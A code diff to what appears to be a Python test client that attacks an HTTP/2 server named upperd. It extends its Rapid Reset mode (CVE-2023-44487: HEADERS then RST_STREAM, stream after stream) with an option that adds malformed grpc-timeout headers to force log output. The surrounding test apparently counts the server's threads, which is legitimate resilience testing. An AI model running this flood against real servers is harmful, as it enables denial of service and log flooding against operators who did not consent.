@@ -16,7 +16,9 @@ the client side can refuse, compress or cap on the attacker's behalf.
     closed), then `ready`, and holds the connection open
     for --hold seconds (the test counts upperd's threads meanwhile, then
     kills it).
-  rapid_reset: CVE-2023-44487 on one connection: HEADERS of --path (no
+  rapid_reset: CVE-2023-44487 on one connection (with --bad_header N,
+    each HEADERS also carries an unparseable N-byte grpc-timeout, which gRPC
+    logs): HEADERS of --path (no
     token unless --token) immediately followed by RST_STREAM(CANCEL), on
     stream after stream, as fast as the socket takes them, until --count
     pairs are sent or --seconds have passed (whichever comes first); frames
@@ -84,7 +86,8 @@ def hpack_int(value, prefix_bits, first=0):
 
 def literal(name, value):
     """Literal header field without indexing, new name, no Huffman."""
-    name, value = name.encode(), value.encode()
+    name = name.encode()
+    value = value.encode() if isinstance(value, str) else value
     return (b"\x00" + hpack_int(len(name), 7) + name +
             hpack_int(len(value), 7) + value)
 
@@ -379,8 +382,11 @@ def rapid_reset(args):
     print("ready", flush=True)
     # Literal fields without indexing: every HEADERS block is the same bytes,
     # so a batch is one template with the stream ids patched in.
-    pair = (frame(HEADERS, END_HEADERS, 0, conn.header_block(args.path,
-                                                             args.token)) +
+    extra = []
+    if args.bad_header:  # a value gRPC cannot parse, and logs, not UTF-8
+        extra = [("grpc-timeout", b"Z" * (args.bad_header - 2) + b"\xff\xfe")]
+    pair = (frame(HEADERS, END_HEADERS, 0,
+                  conn.header_block(args.path, args.token, extra)) +
             frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL)))
     headers_len = len(pair) - 13  # the RST_STREAM frame is 9 + 4 bytes
     batch_pairs = 64
@@ -443,6 +449,9 @@ def main():
                         "(no END_STREAM), as a server-streaming call needs")
     parser.add_argument("--seconds", type=float, default=10.0,
                         help="rapid_reset: stop after this long")
+    parser.add_argument("--bad_header", type=int, default=0,
+                        help="rapid_reset: add a grpc-timeout header of this "
+                        "many bytes that gRPC cannot parse (ends in 0xff 0xfe)")
     parser.add_argument("--ack_first", action="store_true",
                         help="open streams only once SETTINGS are exchanged")
     args = parser.parse_args()
